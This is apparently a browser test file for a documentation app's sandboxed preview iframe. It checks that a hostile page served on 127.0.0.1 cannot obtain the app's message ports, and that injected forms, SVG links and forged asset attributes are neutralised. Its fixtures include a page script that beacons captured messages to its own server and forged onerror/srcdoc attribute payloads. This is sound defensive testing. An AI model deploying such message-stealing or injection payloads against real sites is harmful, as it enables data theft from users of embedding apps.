import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { openApp, previewFrame, previewFrameHandle, sharedAppAndBrowser, waitForPreviewTitle } from './app-harness.ts';

const env = sharedAppAndBrowser();

/**
 * A page of another site that a preview frame might be taken to. It listens for any message
 * (a message with ports is what it wants: the app's port and the page feed) and reports each one
 * it gets to its server, and says hello to the app with a guessed nonce.
 */
const evilPage = `<!doctype html>
<title>Not the preview</title>
<script>
  const report = (what) => { new Image().src = '/report?' + what; };
  addEventListener('message', (event) => report((event.ports.length ? 'stolen=' : 'message=') + encodeURIComponent(JSON.stringify(event.data))));
  parent.postMessage({ type: 'quire-preview-hello', nonce: '0'.repeat(32) }, '*');
</script>
<h1>Not the preview</h1>`;

const gif = Buffer.from('R0lGODlhAQABAAAAACw=', 'base64');

/** The other site, on 127.0.0.1: every request it gets, and a way to wait for one. */
interface EvilSite {
  readonly origin: string;
  readonly requests: string[];
  /** Resolves when a request whose path and query start with `prefix` has arrived (or already had). */
  waitFor(prefix: string): Promise<void>;
}

let server: Server;
let evil: EvilSite;

beforeAll(async () => {
  const requests: string[] = [];
  const waiting: { prefix: string; resolve: () => void }[] = [];
  server = createServer((req, res) => {
    const url = req.url ?? '/';
    requests.push(url);
    for (const wait of waiting.filter((w) => url.startsWith(w.prefix))) wait.resolve();
    if (url.startsWith('/evil.html')) res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(evilPage);
    else res.writeHead(200, { 'content-type': 'image/gif' }).end(gif);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('The test site has no port.');
  evil = {
    origin: `http://127.0.0.1:${address.port}`,
    requests,
    waitFor: (prefix) => (requests.some((r) => r.startsWith(prefix)) ? Promise.resolve() : new Promise((resolve) => waiting.push({ prefix, resolve }))),
  };
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
});

/** Takes the preview frame to the other site from inside it, as a smuggled `<meta http-equiv=refresh>` or a script would. */
async function navigateFrameAway(page: Page, via: string): Promise<string> {
  const frame = await previewFrameHandle(page);
  const before = frame.url();
  await frame.evaluate((url) => {
    location.href = url;
  }, `${evil.origin}/evil.html?via=${via}`);
  await evil.waitFor(`/evil.html?via=${via}`);
  return before;
}

/** Waits until the frame holds a preview document other than the one at `before` (a new nonce). */
async function waitForNewPreview(page: Page, before: string): Promise<void> {
  const current = () => previewFrameHandle(page).then((frame) => frame.url(), () => 'no frame');
  await expect.poll(async () => {
    const url = await current();
    return url !== before && /\/src\/preview\/preview\.html#n=[0-9a-f]{32}$/.test(url);
  }).toBe(true);
}

/** What the other site was told: any message it got (with ports or without). */
function reports(): string[] {
  return evil.requests.filter((r) => r.startsWith('/report'));
}

/** Puts HTML at the top of the page body shown in the preview, as a sanitizer that let it through would. */
async function smuggle(page: Page, html: string): Promise<void> {
  const frame = await previewFrameHandle(page);
  await frame.evaluate((text) => document.querySelector('.q-content')?.insertAdjacentHTML('afterbegin', text), html);
}

describe('a preview frame taken to another page', () => {
  it('gives that page no ports, and comes back with the page shown, whose links work', async () => {
    const { context, page, errors } = await openApp(env.browser, env.app.url);
    await waitForPreviewTitle(page, 'Welcome to Acme Plants');
    await previewFrame(page).getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: 'Quickstart' }).click();
    await waitForPreviewTitle(page, 'Quickstart');
    // A new preview document, with the page that was shown.
    await waitForNewPreview(page, await navigateFrameAway(page, 'script'));
    await waitForPreviewTitle(page, 'Quickstart');
    await previewFrame(page).getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: /Welcome/ }).first().click();
    await waitForPreviewTitle(page, 'Welcome to Acme Plants');
    await expect.poll(() => page.getByRole('tab', { name: 'introduction.mdx' }).getAttribute('aria-selected')).toBe('true');
    // The other page got no message at all: neither the ports nor an answer to its guessed hello.
    expect(reports()).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('is stopped with a notice when it keeps being taken away, and restarts on request or when a page is opened', async () => {
    const { context, page, errors } = await openApp(env.browser, env.app.url);
    await waitForPreviewTitle(page, 'Welcome to Acme Plants');
    const notice = page.getByRole('alert').filter({ hasText: 'The preview was stopped' });
    const takeAwayUntilStopped = async (round: string) => {
      for (const time of [1, 2, 3]) {
        await waitForNewPreview(page, await navigateFrameAway(page, `${round}-${time}`));
        await waitForPreviewTitle(page, 'Welcome to Acme Plants');
      }
      await navigateFrameAway(page, `${round}-4`);
      await notice.waitFor();
      expect(await page.getByTitle('Site preview').count()).toBe(0);
    };
    await takeAwayUntilStopped('first');
    expect(await notice.locator('span').innerText()).toBe(
      'The preview was stopped: its frame was taken to another page 4 times in a short while (a page of this site may be doing it). It gets no pages and cannot open files while stopped.',
    );
    await notice.getByRole('button', { name: 'Restart the preview' }).click();
    await waitForPreviewTitle(page, 'Welcome to Acme Plants');
    await takeAwayUntilStopped('second');
    await page.getByRole('treeitem', { name: 'quickstart.mdx' }).locator('.tree-row').click();
    await waitForPreviewTitle(page, 'Quickstart');
    expect(await notice.count()).toBe(0);
    expect(reports()).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('links and forms in the preview', () => {
  it('never navigate the frame: forms, SVG links (xlink:href) and image map areas are handled by the preview', async () => {
    const { context, page, errors } = await openApp(env.browser, env.app.url);
    await waitForPreviewTitle(page, 'Welcome to Acme Plants');
    const frameUrl = (await previewFrameHandle(page)).url();
    await smuggle(
      page,
      `<svg width="120" height="30"><a id="svg-site" xlink:href="/quickstart"><rect width="120" height="30" fill="teal"/></a></svg>
       <svg width="120" height="30"><a id="svg-away" xlink:href="${evil.origin}/evil.html?via=svg" target="_self"><rect width="120" height="30" fill="red"/></a></svg>
       <form action="${evil.origin}/evil.html" target="_self"><input name="via" value="form"><button id="send">Send</button></form>`,
    );
    const preview = previewFrame(page);
    // A form does not submit (its navigation would come before the renders below).
    await preview.locator('#send').click();
    // An external SVG link (xlink:href), activated from the keyboard, opens in a new tab, without an opener.
    const [popup] = await Promise.all([context.waitForEvent('page'), preview.locator('#svg-away').focus().then(() => page.keyboard.press('Enter'))]);
    await evil.waitFor('/evil.html?via=svg');
    expect(popup.url()).toBe(`${evil.origin}/evil.html?via=svg`);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    await popup.close();
    // A site link in SVG is followed inside the preview, like any link of the site.
    await preview.locator('#svg-site rect').click();
    await waitForPreviewTitle(page, 'Quickstart');
    await expect.poll(() => page.getByRole('tab', { name: 'quickstart.mdx' }).getAttribute('aria-selected')).toBe('true');
    await previewFrame(page).getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: /Welcome/ }).first().click();
    await waitForPreviewTitle(page, 'Welcome to Acme Plants');
    await smuggle(page, `<img id="mapped" usemap="#links" width="120" height="30" alt="map" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"><map name="links"><area shape="rect" coords="0,0,120,30" href="/quickstart" target="_self" alt="Quickstart"></map>`);
    await preview.locator('#mapped').click({ position: { x: 10, y: 10 } });
    await waitForPreviewTitle(page, 'Quickstart');
    // The frame still holds the same preview document; the other site saw only the new tab.
    expect((await previewFrameHandle(page)).url()).toBe(frameUrl);
    expect(evil.requests.filter((r) => r.includes('via=form'))).toEqual([]);
    // The sandbox (no allow-forms) refuses the form before it even fires `submit`, and says so.
    expect(errors).toEqual([`console.error: Blocked form submission to '${evil.origin}/evil.html' because the form's frame is sandboxed and the 'allow-forms' permission is not set.`]);
    await context.close();
  });
});

describe('the preview runtime', () => {
  it('sets only asset URLs on asset attributes, from data-quire-assets it did not write', async () => {
    const { context, page, errors } = await openApp(env.browser, env.app.url);
    await waitForPreviewTitle(page, 'Welcome to Acme Plants');
    await smuggle(
      page,
      `<img id="forged" alt="forged" data-quire-assets='{"src":"quire-asset:images/seedling.svg","onerror":"parent.postMessage(1, \\"*\\")","srcdoc":"<p>x</p>","style":"position:fixed;inset:0","#text":"quire-asset:x"}'>`,
    );
    // A changed image makes the app send the preview its assets, and the runtime refresh every asset reference (the page is not rendered again).
    const drop = await page.evaluateHandle(() => {
      const data = new DataTransfer();
      data.items.add(new File(['<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>'], 'seedling.svg', { type: 'image/svg+xml' }));
      return data;
    });
    const target = page.getByRole('treeitem', { name: 'images', exact: true }).locator('.tree-row').first();
    await target.dispatchEvent('dragover', { dataTransfer: drop });
    await target.dispatchEvent('drop', { dataTransfer: drop });
    await page.getByRole('button', { name: 'Replace' }).click();
    const forged = previewFrame(page).locator('#forged');
    await expect.poll(() => forged.getAttribute('src')).toMatch(/^blob:/);
    expect(await forged.evaluate((img) => img.getAttributeNames().sort())).toEqual(['alt', 'data-quire-assets', 'id', 'src']);
    expect(errors).toEqual([]);
    await context.close();
  });
});
